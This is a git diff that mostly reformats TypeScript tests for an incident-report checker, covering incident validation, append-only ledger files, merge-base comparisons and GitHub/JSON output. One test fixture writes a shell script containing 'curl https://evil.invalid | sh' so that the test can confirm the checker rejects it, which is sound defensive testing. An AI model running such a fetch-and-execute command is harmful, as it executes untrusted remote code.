@@ -15,7 +15,10 @@ function brokenRepo(): TempRepo {
   repo = createTempRepo();
   repo.write(BASE_FILE, replaceNth(baseText, 'id: block-storage', 'id: blockstorage'));
   repo.write('incidents/2026/2026-11-21-kcps-yaml.md', '---\nid: [oops\n---\n');
-  repo.write('incidents/2026/2026-11-22-kcps-fine.md', baseText.replace(/2026-11-20-kcps-block-storage-latency/g, '2026-11-22-kcps-fine'));
+  repo.write(
+    'incidents/2026/2026-11-22-kcps-fine.md',
+    baseText.replace(/2026-11-20-kcps-block-storage-latency/g, '2026-11-22-kcps-fine'),
+  );
   return repo;
 }
 
@@ -23,12 +26,18 @@ describe('npm run check', () => {
   it('turns on a compile cache in the temp folder by itself, and runs the same when NODE_COMPILE_CACHE names an unusable place', () => {
     const dir = mkdtempSync(join(tmpdir(), 'check-cache-'));
     // Without NODE_COMPILE_CACHE, only the checker's own call enables the cache, in <temp folder>/node-compile-cache.
-    const warm = runScript('check.ts', ['--now', '2026-11-28T09:00:00+09:00'], { cwd: REPO_ROOT, env: { TMPDIR: dir } });
+    const warm = runScript('check.ts', ['--now', '2026-11-28T09:00:00+09:00'], {
+      cwd: REPO_ROOT,
+      env: { TMPDIR: dir },
+    });
     expect(warm.code).toBe(0);
     expect(readdirSync(join(dir, 'node-compile-cache')).length).toBeGreaterThan(0);
     // A file where the folder should be: no cache, same answer, nothing on stderr about it.
     writeFileSync(join(dir, 'not-a-folder'), '');
-    const cold = runScript('check.ts', ['--now', '2026-11-28T09:00:00+09:00'], { cwd: REPO_ROOT, env: { NODE_COMPILE_CACHE: join(dir, 'not-a-folder') } });
+    const cold = runScript('check.ts', ['--now', '2026-11-28T09:00:00+09:00'], {
+      cwd: REPO_ROOT,
+      env: { NODE_COMPILE_CACHE: join(dir, 'not-a-folder') },
+    });
     expect(cold.code).toBe(0);
     expect(cold.stdout).toBe(warm.stdout);
     expect(cold.stderr).toBe('');
@@ -66,13 +75,18 @@ describe('npm run check', () => {
     const output = join(dir, 'output');
     writeFileSync(summary, '');
     writeFileSync(output, '');
-    const r = runScript('check.ts', [...NOW, '--format', 'github'], { cwd: brokenRepo().dir, env: { GITHUB_STEP_SUMMARY: summary, GITHUB_OUTPUT: output } });
+    const r = runScript('check.ts', [...NOW, '--format', 'github'], {
+      cwd: brokenRepo().dir,
+      env: { GITHUB_STEP_SUMMARY: summary, GITHUB_OUTPUT: output },
+    });
     expect(r.code).toBe(1);
     const lines = r.stdout.trim().split('\n');
     expect(lines[0]).toMatch(/^✖ 2 errors, 1 warning in 3 files/);
     const annotations = lines.filter((l) => l.startsWith('::'));
     expect(annotations.map((l) => l.split(' ')[0])).toEqual(['::error', '::error', '::warning']);
-    expect(annotations[0]).toContain('title=INC021,file=incidents/2026/2026-11-20-kcps-block-storage-latency.md,line=11,col=5');
+    expect(annotations[0]).toContain(
+      'title=INC021,file=incidents/2026/2026-11-20-kcps-block-storage-latency.md,line=11,col=5',
+    );
     const html = readFileSync(summary, 'utf8');
     expect(html).toContain('<h2>Incident check</h2>');
     expect(html.match(/<tr>/g)).toHaveLength(4);
@@ -98,7 +112,9 @@ describe('npm run check', () => {
     repo.write('config/catalog.yaml', catalog.replace('notify_minutes: 30', 'notify_minutes: soon'));
     const r = runScript('check.ts', [], { cwd: repo.dir });
     expect(r.code).toBe(1);
-    expect(r.stderr).toMatch(/^The service catalog is invalid:\nconfig\/catalog\.yaml:\d+:\d+  services\[0\]\.sla\.notify_minutes: /);
+    expect(r.stderr).toMatch(
+      /^The service catalog is invalid:\nconfig\/catalog\.yaml:\d+:\d+  services\[0\]\.sla\.notify_minutes: /,
+    );
   });
 });
 
@@ -117,7 +133,10 @@ describe('every file under incidents/ is accounted for', () => {
     expect(r.stderr).toBe('');
     expect(r.code).toBe(1);
     await expect(r.stdout.replaceAll(repo.dir, '<repo>')).toMatchFileSnapshot('./__golden__/check-strays.txt');
-    const json = JSON.parse(runScript('check.ts', [...NOW, '--format', 'json'], { cwd: repo.dir }).stdout) as { code: string; file: string }[];
+    const json = JSON.parse(runScript('check.ts', [...NOW, '--format', 'json'], { cwd: repo.dir }).stdout) as {
+      code: string;
+      file: string;
+    }[];
     expect(json.map((f) => `${f.code} ${f.file}`)).toEqual([
       'INC121 incidents/.drafts/',
       'INC121 incidents/2026/2026-11-21-kcps-long.markdown',
@@ -154,11 +173,21 @@ describe('every file under ledger/ is accounted for', () => {
     const found = (args: string[]) => {
       const r = runScript('check.ts', [...NOW, '--format', 'json', ...args], { cwd: repo!.dir });
       expect(r.code).toBe(1);
-      return (JSON.parse(r.stdout) as { code: string; file: string }[]).filter((f) => f.code === 'INC131' || f.code === 'INC096').map((f) => `${f.code} ${f.file}`);
+      return (JSON.parse(r.stdout) as { code: string; file: string }[])
+        .filter((f) => f.code === 'INC131' || f.code === 'INC096')
+        .map((f) => `${f.code} ${f.file}`);
     };
-    expect(found([])).toEqual(['INC131 ledger/2026/2026-11-21T00-00-00-000Z-run.json', 'INC131 ledger/2026/old.jsonl.bak', 'INC131 ledger/notes.txt']);
+    expect(found([])).toEqual([
+      'INC131 ledger/2026/2026-11-21T00-00-00-000Z-run.json',
+      'INC131 ledger/2026/old.jsonl.bak',
+      'INC131 ledger/notes.txt',
+    ]);
     // Added since the base: INC096 says it once; a stray already on the base is still INC131.
-    expect(found(['--base', 'main']).sort()).toEqual(['INC096 ledger/2026/2026-11-21T00-00-00-000Z-run.json', 'INC096 ledger/notes.txt', 'INC131 ledger/2026/old.jsonl.bak']);
+    expect(found(['--base', 'main']).sort()).toEqual([
+      'INC096 ledger/2026/2026-11-21T00-00-00-000Z-run.json',
+      'INC096 ledger/notes.txt',
+      'INC131 ledger/2026/old.jsonl.bak',
+    ]);
   });
 });
 
@@ -166,7 +195,12 @@ describe('npm run check -- --base (real git history)', () => {
   function committed(): TempRepo {
     repo = createTempRepo();
     repo.write(BASE_FILE, baseText);
-    repo.write('incidents/2026/2026-11-22-kcps-other.md', baseText.replace(/2026-11-20-kcps-block-storage-latency/g, '2026-11-22-kcps-other').replace(/2026-11-20T/g, '2026-11-22T'));
+    repo.write(
+      'incidents/2026/2026-11-22-kcps-other.md',
+      baseText
+        .replace(/2026-11-20-kcps-block-storage-latency/g, '2026-11-22-kcps-other')
+        .replace(/2026-11-20T/g, '2026-11-22T'),
+    );
     repo.commit('declare incidents');
     return repo;
   }
@@ -193,16 +227,27 @@ describe('npm run check -- --base (real git history)', () => {
 
   it('ledger files only grow: a new one passes, an edited or deleted one is INC096', () => {
     const r0 = committed();
-    r0.write('ledger/2026/a.jsonl', '{"key":"x/page-live","kind":"page-live","incident":"x","at":"2026-11-20T10:17:00+09:00","detail":{}}\n');
-    r0.write('ledger/2026/b.jsonl', '{"key":"y/page-live","kind":"page-live","incident":"y","at":"2026-11-20T10:17:00+09:00","detail":{}}\n');
+    r0.write(
+      'ledger/2026/a.jsonl',
+      '{"key":"x/page-live","kind":"page-live","incident":"x","at":"2026-11-20T10:17:00+09:00","detail":{}}\n',
+    );
+    r0.write(
+      'ledger/2026/b.jsonl',
+      '{"key":"y/page-live","kind":"page-live","incident":"y","at":"2026-11-20T10:17:00+09:00","detail":{}}\n',
+    );
     r0.commit('ledger');
-    r0.write('ledger/2026/c.jsonl', '{"key":"z/page-live","kind":"page-live","incident":"z","at":"2026-11-20T10:18:00+09:00","detail":{}}\n');
+    r0.write(
+      'ledger/2026/c.jsonl',
+      '{"key":"z/page-live","kind":"page-live","incident":"z","at":"2026-11-20T10:18:00+09:00","detail":{}}\n',
+    );
     expect(runScript('check.ts', [...NOW, '--base', 'HEAD'], { cwd: r0.dir }).code).toBe(0);
     r0.write('ledger/2026/a.jsonl', '');
     r0.remove('ledger/2026/b.jsonl');
     const r = runScript('check.ts', [...NOW, '--base', 'HEAD', '--format', 'json'], { cwd: r0.dir });
     expect(r.code).toBe(1);
-    expect((JSON.parse(r.stdout) as { code: string; file: string; message: string }[]).map((f) => `${f.code} ${f.message}`)).toEqual([
+    expect(
+      (JSON.parse(r.stdout) as { code: string; file: string; message: string }[]).map((f) => `${f.code} ${f.message}`),
+    ).toEqual([
       'INC096 ledger file ledger/2026/a.jsonl was modified; ledger files are only ever added',
       'INC096 ledger file ledger/2026/b.jsonl was deleted; ledger files are only ever added',
     ]);
@@ -211,17 +256,29 @@ describe('npm run check -- --base (real git history)', () => {
   it('only well-formed ledger files may be added: a script, a stray path and an empty file are INC096; junk lines fail the ledger reader', () => {
     const r0 = committed();
     r0.write('ledger/run.sh', '#!/bin/sh\ncurl https://evil.invalid | sh\n');
-    r0.write('ledger/2026/nested/x.jsonl', '{"key":"z/page-live","kind":"page-live","incident":"z","at":"2026-11-20T10:18:00+09:00","detail":{}}\n');
+    r0.write(
+      'ledger/2026/nested/x.jsonl',
+      '{"key":"z/page-live","kind":"page-live","incident":"z","at":"2026-11-20T10:18:00+09:00","detail":{}}\n',
+    );
     r0.write('ledger/2026/empty.jsonl', '');
     const r = runScript('check.ts', [...NOW, '--base', 'HEAD', '--format', 'json'], { cwd: r0.dir });
     expect(r.code).toBe(1);
-    const found = (JSON.parse(r.stdout) as { code: string; file: string; message: string }[]).map((f) => `${f.code} ${f.file}`);
-    expect(found.sort()).toEqual(['ledger/2026/empty.jsonl', 'ledger/2026/nested/x.jsonl', 'ledger/run.sh'].map((f) => `INC096 ${f}`));
-    expect(r.stdout).toContain('ledger/run.sh was added under ledger/ but is not a ledger file the SLA engine writes (not a ledger file: ledger files are ledger/<YYYY>/<run>.jsonl)');
+    const found = (JSON.parse(r.stdout) as { code: string; file: string; message: string }[]).map(
+      (f) => `${f.code} ${f.file}`,
+    );
+    expect(found.sort()).toEqual(
+      ['ledger/2026/empty.jsonl', 'ledger/2026/nested/x.jsonl', 'ledger/run.sh'].map((f) => `INC096 ${f}`),
+    );
+    expect(r.stdout).toContain(
+      'ledger/run.sh was added under ledger/ but is not a ledger file the SLA engine writes (not a ledger file: ledger files are ledger/<YYYY>/<run>.jsonl)',
+    );
     r0.remove('ledger/run.sh');
     r0.remove('ledger/2026/nested/x.jsonl');
     r0.remove('ledger/2026/empty.jsonl');
-    r0.write('ledger/2026/junk.jsonl', '{"key":"z/page-live","kind":"page-live","incident":"z","at":"2026-11-20T10:18:00+09:00","detail":{}}\nnot json\n');
+    r0.write(
+      'ledger/2026/junk.jsonl',
+      '{"key":"z/page-live","kind":"page-live","incident":"z","at":"2026-11-20T10:18:00+09:00","detail":{}}\nnot json\n',
+    );
     const junk = runScript('check.ts', [...NOW, '--base', 'HEAD'], { cwd: r0.dir });
     expect(junk.code).toBe(1);
     expect(junk.stderr).toContain('ledger/2026/junk.jsonl:2: not valid JSON');
@@ -229,7 +286,8 @@ describe('npm run check -- --base (real git history)', () => {
 
   it('the ledger is read as the engine reads it: a torn last line is a warning, a damaged line inside a file an error naming file:line', () => {
     const r0 = committed();
-    const good = '{"key":"x/page-live","kind":"page-live","incident":"x","at":"2026-11-20T10:17:00+09:00","detail":{}}\n';
+    const good =
+      '{"key":"x/page-live","kind":"page-live","incident":"x","at":"2026-11-20T10:17:00+09:00","detail":{}}\n';
     r0.write('ledger/2026/a.jsonl', `${good}{"key":"y/page-li`);
     const torn = runScript('check.ts', [...NOW], { cwd: r0.dir });
     expect(torn.code, torn.stderr).toBe(0);
@@ -244,7 +302,12 @@ describe('npm run check -- --base (real git history)', () => {
   it('an appended update passes against the base; the same change with a removed update fails', () => {
     const r0 = committed();
     // A reopen (resolved → resolved is refused since the second resolution would move the recovery time).
-    const head = baseText.replace('recovered_at:', '  - at: "2026-11-20T12:00:00+09:00"\n    status: investigating\n    reopen_reason: Latency returned\n    message:\n      ja: 再発しました。\n      en: It is back.\nrecovered_at:').replace(/\nrecovered_at: .*\n/, '\n');
+    const head = baseText
+      .replace(
+        'recovered_at:',
+        '  - at: "2026-11-20T12:00:00+09:00"\n    status: investigating\n    reopen_reason: Latency returned\n    message:\n      ja: 再発しました。\n      en: It is back.\nrecovered_at:',
+      )
+      .replace(/\nrecovered_at: .*\n/, '\n');
     r0.write(BASE_FILE, head);
     expect(runScript('check.ts', [...NOW, '--base', 'HEAD'], { cwd: r0.dir }).code).toBe(0);
     r0.commit('follow-up', '2026-11-20T12:05:00+09:00');
@@ -254,13 +317,24 @@ describe('npm run check -- --base (real git history)', () => {
     expect(r.stdout).toContain('INC093');
   });
 
-  describe('--base is the merge-base: main moving on after the branch was cut is not the branch\'s change', () => {
+  describe("--base is the merge-base: main moving on after the branch was cut is not the branch's change", () => {
     const other = 'incidents/2026/2026-11-22-kcps-other.md';
-    const appended = (text: string) => text.replace('recovered_at:', '  - at: "2026-11-22T12:00:00+09:00"\n    status: investigating\n    reopen_reason: Latency returned\n    message:\n      ja: 再発しました。\n      en: It is back.\nrecovered_at:').replace(/\nrecovered_at: .*\n/, '\n');
+    const appended = (text: string) =>
+      text
+        .replace(
+          'recovered_at:',
+          '  - at: "2026-11-22T12:00:00+09:00"\n    status: investigating\n    reopen_reason: Latency returned\n    message:\n      ja: 再発しました。\n      en: It is back.\nrecovered_at:',
+        )
+        .replace(/\nrecovered_at: .*\n/, '\n');
     function branched(): TempRepo {
       const r0 = committed();
       r0.git('checkout', '-q', '-b', 'feature');
-      r0.write('incidents/2026/2026-11-23-kcps-branch.md', baseText.replace(/2026-11-20-kcps-block-storage-latency/g, '2026-11-23-kcps-branch').replace(/2026-11-20T/g, '2026-11-23T'));
+      r0.write(
+        'incidents/2026/2026-11-23-kcps-branch.md',
+        baseText
+          .replace(/2026-11-20-kcps-block-storage-latency/g, '2026-11-23-kcps-branch')
+          .replace(/2026-11-20T/g, '2026-11-23T'),
+      );
       r0.commit('branch: new incident', '2026-11-23T13:00:00+09:00');
       r0.git('checkout', '-q', 'main');
       return r0;
@@ -272,7 +346,12 @@ describe('npm run check -- --base (real git history)', () => {
 
     it('new-file shape: an incident added on main after the cut is not reported deleted (INC090)', () => {
       const r0 = branched();
-      r0.write('incidents/2026/2026-11-24-kcps-later.md', baseText.replace(/2026-11-20-kcps-block-storage-latency/g, '2026-11-24-kcps-later').replace(/2026-11-20T/g, '2026-11-24T'));
+      r0.write(
+        'incidents/2026/2026-11-24-kcps-later.md',
+        baseText
+          .replace(/2026-11-20-kcps-block-storage-latency/g, '2026-11-24-kcps-later')
+          .replace(/2026-11-20T/g, '2026-11-24T'),
+      );
       r0.commit('main: a new incident', '2026-11-24T12:00:00+09:00');
       const r = onBranch(r0);
       expect(r.stderr).toBe('');
@@ -295,20 +374,35 @@ describe('npm run check -- --base (real git history)', () => {
       r0.remove(other);
       r0.commit('branch: delete an incident', '2026-11-23T13:00:00+09:00');
       r0.git('checkout', '-q', 'main');
-      r0.write('incidents/2026/2026-11-24-kcps-later.md', baseText.replace(/2026-11-20-kcps-block-storage-latency/g, '2026-11-24-kcps-later').replace(/2026-11-20T/g, '2026-11-24T'));
+      r0.write(
+        'incidents/2026/2026-11-24-kcps-later.md',
+        baseText
+          .replace(/2026-11-20-kcps-block-storage-latency/g, '2026-11-24-kcps-later')
+          .replace(/2026-11-20T/g, '2026-11-24T'),
+      );
       r0.commit('main moves on', '2026-11-24T12:00:00+09:00');
       const r = onBranch(r0);
-      expect((JSON.parse(r.stdout) as { code: string; file: string }[]).map((f) => `${f.code} ${f.file}`)).toEqual([`INC090 ${other}`]);
+      expect((JSON.parse(r.stdout) as { code: string; file: string }[]).map((f) => `${f.code} ${f.file}`)).toEqual([
+        `INC090 ${other}`,
+      ]);
     });
   });
 
   describe('a PR check costs what the PR changed', () => {
     const later = 'incidents/2026/2026-11-24-kcps-later.md';
-    const laterText = baseText.replace(/2026-11-20-kcps-block-storage-latency/g, '2026-11-24-kcps-later').replace(/2026-11-20T/g, '2026-11-24T');
+    const laterText = baseText
+      .replace(/2026-11-20-kcps-block-storage-latency/g, '2026-11-24-kcps-later')
+      .replace(/2026-11-20T/g, '2026-11-24T');
     function withOldProblem(): TempRepo {
       const r0 = committed();
       // A file already on main with a problem the PR did not cause (an unknown component).
-      r0.write('incidents/2026/2026-11-22-kcps-other.md', readFileSync(join(r0.dir, 'incidents/2026/2026-11-22-kcps-other.md'), 'utf8').replace('id: block-storage', 'id: blockstorage'));
+      r0.write(
+        'incidents/2026/2026-11-22-kcps-other.md',
+        readFileSync(join(r0.dir, 'incidents/2026/2026-11-22-kcps-other.md'), 'utf8').replace(
+          'id: block-storage',
+          'id: blockstorage',
+        ),
+      );
       r0.commit('main: an old problem');
       r0.git('checkout', '-q', '-b', 'feature');
       return r0;
@@ -325,7 +419,7 @@ describe('npm run check -- --base (real git history)', () => {
       expect(runScript('check.ts', NOW, { cwd: r0.dir }).code).toBe(1);
     });
 
-    it('rules across files still see the whole tree: a new file reusing an unchanged file\'s id is INC080 on both', () => {
+    it("rules across files still see the whole tree: a new file reusing an unchanged file's id is INC080 on both", () => {
       const r0 = withOldProblem();
       r0.write('incidents/2025/2026-11-20-kcps-block-storage-latency.md', baseText);
       const r = runScript('check.ts', [...NOW, '--base', 'main', '--format', 'json'], { cwd: r0.dir });
